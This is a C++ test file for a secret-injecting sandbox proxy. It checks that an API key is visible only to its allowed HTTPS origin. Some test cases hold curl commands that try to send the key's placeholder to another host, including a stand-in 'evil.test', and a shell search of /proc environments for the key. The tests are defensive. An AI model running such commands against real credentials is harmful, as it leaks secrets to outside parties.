// What the sandbox holds, what the origin gets, and where a placeholder may not go.

#include <doctest/doctest.h>
#include <sys/stat.h>

#include <string>

#include "tests/support/sandbox.hpp"

using namespace sallyport::test;

namespace {

constexpr const char* kPlaceholder = "sk-placeholder-0000";

std::string policy(const StandIn& origin, const std::string& source) {
    return "[[allow]]\nhost = [\"api.example.test\", \"other.example.test\"]\n"
           "[[secret]]\nname = \"api-key\"\nhost = \"api.example.test\"\nheader = \"x-api-key\"\nplaceholder = \"" +
           std::string(kPlaceholder) + "\"\nvalue = " + source + "\n" + origin.route("api.example.test") +
           origin.route("other.example.test");
}

std::vector<std::string> environment() { return {std::string("API_KEY=") + StandIn::kKey}; }

}  // namespace

TEST_CASE("secret: the origin gets the real key, and nothing in the sandbox holds it") {
    const StandIn origin;
    for (const auto user : sandbox_users()) {
        const Sandbox sandbox(user, policy(origin, "{ env = \"API_KEY\" }"), &origin, environment());
        const auto ran = sandbox.run(
            "echo key=$API_KEY; curl -sS -H \"x-api-key: $API_KEY\" https://api.example.test/echo; "
            "curl -sS https://api.example.test/echo; curl -sS -H 'X-Api-Key: mine' https://api.example.test/echo");
        CAPTURE(ran.shown());
        CHECK(ran.says(std::string("key=") + kPlaceholder + "\n"));
        for (auto rest = ran.out.substr(ran.out.find('\n') + 1); !rest.empty(); rest.erase(0, rest.find('\n') + 1))
            CHECK(rest.substr(0, rest.find('\n')).ends_with("\"key\": \"right\"}"));
        for (const auto& request : origin.requests()) CHECK(request["headers"]["x-api-key"] == StandIn::kKey);
        CHECK(sandbox.audited({{"decision", "allow"}, {"secrets", {"api-key"}}}) == 3);

        // In two halves, and looked for by the shell itself, so that the search does not find itself.
        const std::string key = StandIn::kKey;
        const auto search =
            sandbox.run({"sh", "-c",
                         "all=$(cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; env); "
                         "case $all in *\"$0$1\"*) echo in /proc;; *sk-placeholder-0000*) echo only the placeholder;; "
                         "esac; grep -rlsa -- \"$0$1\" . /run /dev/shm",
                         key.substr(0, 10), key.substr(10)});
        CAPTURE(search.shown());
        CHECK(search.out == "only the placeholder\n");
    }
}

TEST_CASE("secret: a source that is a file or a command serves as well, and the file is hidden from the sandbox") {
    const StandIn origin;
    for (const auto user : sandbox_users()) {
        const Sandbox sandbox(user, policy(origin, "{ file = \"key.txt\" }"), &origin);
        sandbox.write("key.txt", std::string(StandIn::kKey) + "\n");
        ::chmod((sandbox.directory() / "key.txt").c_str(), 0600);
        const auto from_file = sandbox.run("cat key.txt; echo; curl -sS https://api.example.test/echo");
        CAPTURE(from_file.shown());
        CHECK(from_file.out.starts_with(std::string(kPlaceholder) + "\n"));
        CHECK(from_file.says("\"key\": \"right\""));

        sandbox.write("sallyport.toml", policy(origin, "{ command = [\"printenv\", \"KEY_OF_SOMETHING\"] }"));
        auto with_variable = sandbox.options;
        with_variable.environment.push_back(std::string("KEY_OF_SOMETHING=") + StandIn::kKey);
        const auto from_command =
            run_program(sandbox.command_line(
                            {"sh", "-c", "echo ${KEY_OF_SOMETHING-unset}; curl -sS https://api.example.test/echo"}),
                        with_variable);
        CAPTURE(from_command.shown());
        CHECK(from_command.out.starts_with("unset\n"));  // it holds a secret, so it was withheld
        CHECK(from_command.complains("withheld from the command: KEY_OF_SOMETHING"));
        CHECK(from_command.says("\"key\": \"right\""));
    }
}

TEST_CASE("secret: its placeholder on the way to another host is refused, with an alarm") {
    const StandIn origin;
    const char* const kWays[] = {
        "-H \"x-api-key: $API_KEY\" https://other.example.test/echo",
        "-u \"user:$API_KEY\" https://other.example.test/echo",
        "-b \"key=$API_KEY\" https://other.example.test/echo",
        "\"https://other.example.test/echo?key=$API_KEY\"",
        "--resolve evil.test:443:203.0.113.9 -H \"x-api-key: $API_KEY\" https://evil.test/",
    };
    for (const auto user : sandbox_users()) {
        const Sandbox sandbox(user, policy(origin, "{ env = \"API_KEY\" }"), &origin, environment());
        const auto before = origin.requests().size();
        for (const auto* way : kWays) {
            const auto ran = sandbox.run(std::string("curl -sS -w '%{http_code}' ") + way);
            CAPTURE(ran.shown());
            CHECK(ran.out.ends_with("403"));
            CHECK(ran.complains("ALARM"));
            const auto last = sandbox.audit().back();
            CHECK(last["decision"] == "deny");
            CHECK(last.value("alarm", "").starts_with("placeholder of secret api-key on its way to "));
            CHECK_FALSE(last.dump().find(StandIn::kKey) != std::string::npos);
        }
        CHECK(origin.requests().size() == before);
        // Without the placeholder the other host is served, without the key.
        const auto plain = sandbox.run("curl -sS https://other.example.test/echo");
        CHECK(plain.says("\"key\": null"));
    }
}

TEST_CASE("secret: never over plain HTTP") {
    const StandIn origin;
    for (const auto user : sandbox_users()) {
        const Sandbox sandbox(user, policy(origin, "{ env = \"API_KEY\" }"), &origin, environment());
        const auto before = origin.requests().size();
        const auto ran = sandbox.run("curl -sS -w '%{http_code}' http://api.example.test/echo");
        CAPTURE(ran.shown());
        CHECK(ran.out.ends_with("403"));
        CHECK(ran.says("use https://api.example.test"));
        CHECK(origin.requests().size() == before);
        CHECK(sandbox.audited({{"decision", "deny"}, {"scheme", "http"}, {"secrets", nlohmann::json::array()}}) == 1);
    }
}
